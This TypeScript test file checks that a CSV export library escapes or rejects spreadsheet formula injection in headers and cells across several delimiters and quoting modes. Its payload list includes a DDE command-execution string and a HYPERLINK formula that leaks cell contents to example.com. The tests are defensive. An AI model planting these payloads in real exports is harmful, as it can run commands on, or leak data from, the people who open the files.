import { expect, test } from 'vitest'
import type { Dataset } from '../../lib/core/dataset.ts'
import { quoteIdentifier, quoteLiteral } from '../../lib/core/quote.ts'
import { checkContract } from '../../lib/export/contract/check-contract.ts'
import { contract } from '../../lib/export/contract/contract.ts'
import { deliver } from '../../lib/export/deliver.ts'
import { checkValues } from '../../lib/export/write/check-values.ts'
import { escapedFormula } from '../../lib/formats/formulas.ts'
import { temporaryFolder, testContext } from '../kit/context.ts'
import { parseCsv } from '../kit/csv.ts'
import { datasetOf } from '../kit/dataset.ts'
import { connectToTestEngine } from '../kit/engine.ts'
import { exportOf, freshStore, readText, requestOf } from './kit.ts'

/** OWASP's beginnings of a formula, known attacks, and what becomes a cell of its own where a reader takes delimiters, quotes or line ends wrongly. */
const payloads = (delimiter: string): readonly string[] => [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
  ...[`=cmd|' /C calc'!A0`, '=HYPERLINK("http://example.com/?leak="&A1,"look")', '=1+1";=1+1', "-2+3+cmd|' /C calc'!A0", '@', '='],
  ...[
    `a${delimiter}=1+1`,
    'a"=1+1',
    'a\n=1+1',
    'a\r\n+1+1',
    'a\t@SUM(1)',
    'a;=1+1',
    'a,@SUM(1)',
    `"${delimiter}-1+1`,
    `a${delimiter}${delimiter}＝1`,
    '"=1+1"',
  ],
]

const PLACES = ['first', 'middle', 'last'] as const
const DELIMITERS = [',', ';', '\t', '|'] as const
const columns = { first: 'text', id: 'int64', middle: 'text', more: 'text', last: 'text' } as const
/** The names of the columns are formulas, too. */
const attacked = { '=first': 'text', id: 'int64', '@middle': 'text', more: 'text', '-last': 'text' } as const

/** Each payload in each place, beside harmless values. */
function attack(delimiter: string, names: Readonly<Record<string, string>>): Promise<Dataset> {
  const rows = PLACES.flatMap((_, place) =>
    payloads(delimiter).map((payload) => PLACES.map((__, i) => (i === place ? payload : 'calm'))),
  ).map(([first = '', middle = '', last = ''], id) => `(${[first, String(id), middle, 'calm', last].map(quoteLiteral).join(', ')})`)
  const named = Object.keys(names).map(quoteIdentifier)
  const typed = named.map((name, i) => (i === 1 ? `CAST(${name} AS BIGINT) AS ${name}` : name))
  return datasetOf(temporaryFolder(), 'd', names, `SELECT ${typed.join(', ')} FROM (VALUES ${rows.join(', ')}) AS t(${named.join(', ')})`)
}

const BEGINS = /^[=+\-@＝＋－＠\t\r\n\0]/
const SIGN = /^[=+\-@＝＋－＠]/

test.each(DELIMITERS)(
  'formulas in header, first, middle and last column, delimiter %j: raw leaves all, escape leaves none to any reader',
  async (delimiter) => {
    const dataset = await attack(delimiter, attacked)
    const expected = payloads(delimiter)
    for (const quoting of ['minimal', 'nonNumeric', 'all'] as const)
      for (const formulas of ['raw', 'escape'] as const) {
        const store = freshStore(temporaryFolder())
        const target = exportOf('d.csv', { columns: attacked, orderBy: ['id'], delimiter, quoting, formulas })
        const { files } = await deliver(requestOf(dataset, { export: target, partition: undefined }), store, testContext())
        const text = await readText(store, files[0] ?? '')
        const written = (value: string) => (formulas === 'raw' ? value : escapedFormula(value, { delimiter, quote: '"' }))
        const [header = [], ...records] = parseCsv(text, { delimiter, quote: '"', lineEnd: '\n' })
        expect(header.map((field) => field.text)).toEqual(Object.keys(attacked).map(written))
        // What the reader of the contract sees: each payload in its place, as it is or with apostrophes.
        const seen = PLACES.flatMap((_, place) =>
          records.slice(place * expected.length, (place + 1) * expected.length).map((record) => record[place * 2]?.text),
        )
        expect(seen).toEqual(PLACES.flatMap(() => expected.map(written)))
        const cells = [header, ...records].flat().map((field) => field.text)
        // A reader that knows nothing of quotes begins a cell after each delimiter, its own or the contract's, quote and line end.
        const pieces = text.split(new RegExp(`[${delimiter === '|' ? '\\|' : delimiter},;"\\t\\r\\n]`, 'u'))
        const found = [cells.filter((cell) => BEGINS.test(cell)).length, pieces.filter((piece) => SIGN.test(piece)).length]
        if (formulas === 'escape') expect(found, quoting).toEqual([0, 0])
        else
          expect(
            found.every((count) => count >= PLACES.length * 11),
            quoting,
          ).toBe(true)
      }
  },
)

test.each(DELIMITERS)('formulas in header, first, middle and last column, delimiter %j: reject refuses each', async (delimiter) => {
  const signal = new AbortController().signal
  const db = await connectToTestEngine()
  try {
    const dataset = await attack(delimiter, columns)
    const count = payloads(delimiter).length
    for (const [i, column] of PLACES.entries()) {
      // Of the other columns nothing is asked: each alone must be refused in every row that has a payload.
      const one = contract({ columns: { id: 'int64', [column]: 'text' } as const, orderBy: ['id'], delimiter, formulas: 'reject' })
      await expect(checkValues(db, dataset, one as never, signal)).rejects.toMatchObject({
        message: `"${column}" is a formula to a spreadsheet in ${count} of ${PLACES.length * count} rows, first in id=${i * count}`,
      })
    }
    for (const name of payloads(delimiter)) {
      const named = { [name]: 'text', id: 'int64' } as const
      const one = contract({ columns: named, orderBy: ['id'], delimiter, formulas: 'reject' })
      expect(() => checkContract(one, named), name).toThrow('is a formula, and the contract says formulas: "reject"')
    }
  } finally {
    db.close()
  }
})

test('numbers are never touched, in a list neither: what is refused or escaped are texts', async () => {
  const columns = { id: 'int64', line: 'list(int64)', point: 'struct(x int64, y list(float64))', words: 'list(text)' } as const
  const dataset = await datasetOf(
    temporaryFolder(),
    'd',
    columns,
    "SELECT 1 AS id, [1, -3] AS line, {'x': -1, 'y': [0.5, -2.5]} AS point, ['=1', 'b'] AS words",
  )
  const delivered = async (formulas: 'escape' | 'reject', names: Partial<typeof columns>) => {
    const store = freshStore(temporaryFolder())
    const target = exportOf('d.csv', { columns: names as typeof columns, orderBy: ['id'], delimiter: ';', quoting: 'all', formulas })
    const { files } = await deliver(requestOf(dataset, { export: target, partition: undefined }), store, testContext())
    return readText(store, files[0] ?? '')
  }
  const { words, ...numbers } = columns
  expect(await delivered('reject', numbers)).toContain('"1";"[1,-3]";"{""x"":-1,""y"":[0.5,-2.5]}"')
  expect(await delivered('escape', columns)).toContain(`"[1,-3]";"{""x"":-1,""y"":[0.5,-2.5]}";"[""'=1"",""b""]"`)
  await expect(delivered('reject', { id: columns.id, words })).rejects.toThrow('"words" is a formula to a spreadsheet in 1 of 1 rows')
})
